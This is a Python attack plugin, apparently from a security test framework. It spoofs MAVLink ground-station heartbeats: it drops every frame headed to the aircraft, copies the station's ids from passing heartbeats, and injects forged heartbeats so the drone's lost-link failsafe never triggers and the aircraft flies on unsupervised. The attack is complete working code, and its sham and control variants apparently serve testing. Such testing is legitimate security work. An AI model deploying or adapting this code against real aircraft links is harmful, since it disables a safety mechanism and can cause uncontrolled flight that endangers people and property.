"""Heartbeats in the name of a ground station that was cut off, so that no failsafe acts."""

from __future__ import annotations

from typing import Annotated, Final

from pydantic import Field

import skyrange.plugin as sky
from skyrange.codec.mavlink import dialect as mav

_FOREIGN_SYSTEM: Final = 254
"""System id in the heartbeats of the sham: a ground station that is not the aircraft's."""
ByteId = Annotated[sky.Whole, Field(ge=1, le=255)]


@sky.attack(
    "identity.keep_alive",
    technique="T0849",
    persists="acts",
    effect="the aircraft flies on without supervision, because its failsafe does not notice the lost station",
    knowledge="the system id of the ground station, which its heartbeats tell",
    position="on the path between ground station and aircraft",
    equipment="a computer that filters frames and sends MAVLink",
    budget="a frame of 21 bytes per heartbeat",
    load="the sham: the same cut, with heartbeats of a ground station that is not the aircraft's",
    content="the same attack with cut = false",
    placement="the same attack on the link of another aircraft",
)
class KeptAlive(sky.InjectionOnLinks):
    """Cuts off the ground station and sends heartbeats in its name."""

    cut: bool = sky.param(
        "Whether all frames towards the aircraft are dropped; otherwise something else has to cut them.", default=True
    )
    every_s: sky.Number = sky.param("Time between two heartbeats, in seconds.", default=1.0, ge=0.1, le=60)
    system: ByteId | None = sky.param(
        "System id in the heartbeats; default: that of the last heartbeat that passed, 255 before the first.",
        default=None,
    )
    packer: sky.MavlinkPacker

    def begin(self) -> None:
        """Begin with the ids that ground stations have by convention."""
        super().begin()
        self.packer = sky.MavlinkPacker(_FOREIGN_SYSTEM if self.sham else self.system or sky.STATION[0], sky.STATION[1])

    def on_frame(self, now: sky.Time, frame: sky.Frame) -> sky.Verdicts:
        """Drop what goes to the aircraft; learn the station's ids from its heartbeats."""
        payload = frame.payload
        if frame.direction != "fwd":
            return ()
        if sky.message_id(payload) == mav.MAVLINK_MSG_ID_HEARTBEAT and payload[0] == mav.PROTOCOL_MARKER_V2:
            if not self.sham and self.system is None:
                self.packer.system = payload[5]
            self.packer.component = payload[6]
        return (sky.Drop(),) if self.cut and now >= self.schedule.start_ns else ()

    def send(self, now: sky.Time) -> sky.Verdicts:
        beat = mav.MAVLink_heartbeat_message(mav.MAV_TYPE_GCS, mav.MAV_AUTOPILOT_INVALID, 0, 0, mav.MAV_STATE_ACTIVE, 3)
        return [self.inject(self.packer.pack(beat))]
